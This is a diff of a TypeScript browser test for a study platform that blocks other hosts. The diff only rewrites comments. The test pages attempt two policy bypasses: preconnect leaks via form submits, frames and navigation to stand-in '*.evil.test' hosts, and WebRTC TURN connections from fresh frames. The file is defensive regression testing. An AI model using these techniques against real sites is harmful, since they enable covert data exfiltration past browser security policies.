@@ -10,7 +10,7 @@ import { atTheDoor, begin, recruitFor } from '../support/running-here';
 
 /** Names of `*.evil.test` to which a browser has connected: TLS sends them unencrypted. */
 const asked = new Set<string>();
-/** The number of packets for each participant of WebRTC, by the given ports. */
+/** The number of UDP packets received at the ports given to the study and to the control page. */
 const packets = { study: 0, control: 0 };
 const ports = { study: 0, control: 0 };
 const resolver: string[] = [];
@@ -41,8 +41,8 @@ afterAll(async () => {
   udp.control.close();
   await new Promise((resolve) => tcp.close(resolve));
 });
-// After the port is known: it is an argument of this file's Chromium. The shell connects ahead of no
-// navigation: what people use does.
+// Created after the port is known, which is an argument for Chromium. A whole browser, because the
+// headless shell does not preconnect for navigations.
 const browser = useBrowser(resolver, true);
 
 type Who = keyof typeof ports;
@@ -58,9 +58,9 @@ addEventListener('load', () => {
 });
 </script></html>`;
 
-/** The two ways out of a study whose policy refuses other hosts, as an examination found them. */
+/** Two ways to reach other hosts in spite of the policy, found in a security examination. */
 const ways = {
-  /** Browsers may connect ahead of a navigation that they refuse: the name says something already. */
+  /** Browsers may preconnect for a navigation that they then refuse; the host name itself leaks data. */
   navigations: (who: Who) =>
     page(`const to = (way) => 'https://' + way + '-${who}.evil.test/';
   const form = document.createElement('form');
@@ -71,7 +71,7 @@ const ways = {
   form.submit();
   frame((one) => { one.src = to('frame'); });
   setTimeout(() => { location.href = to('page'); }, 500);`),
-  /** In frames of its own, from which the study's page cannot take WebRTC. */
+  /** Uses fresh frames, in which the study's page cannot disable WebRTC. */
   WebRTC: (who: Who) =>
     page(`const connect = () => {
     const urls = 'turn:127.0.0.1:${ports[who]}?transport=udp';
@@ -110,7 +110,7 @@ async function control(tab: Page, way: Way): Promise<void> {
       (count) => count >= enough[way],
     );
   } finally {
-    // Before its server: what the page still asks for would fail, and be told to the next test.
+    // Closed before its server, because failing requests would be reported in the next test.
     await tab.context().close();
     server.close();
     server.closeAllConnections();
@@ -131,7 +131,7 @@ describe('study without other hosts', () => {
       const files = { 'index.html': Buffer.from(ways[way]('study')) };
       const study = await recruitFor(files, `Escaping by ${way}, ${frames}`, { frames });
       const { page: tab, participation } = await atTheDoor(browser, study);
-      // Chromium 156 ends a page that asks for a WebRTC which its list refuses.
+      // Chromium 156 ends a page that requests a WebRTC connection refused by its allowlist.
       const ended = new Promise<void>((resolve) => tab.once('crash', () => resolve()));
       await tab.goto(`/run/${participation}`);
       await begin(tab);
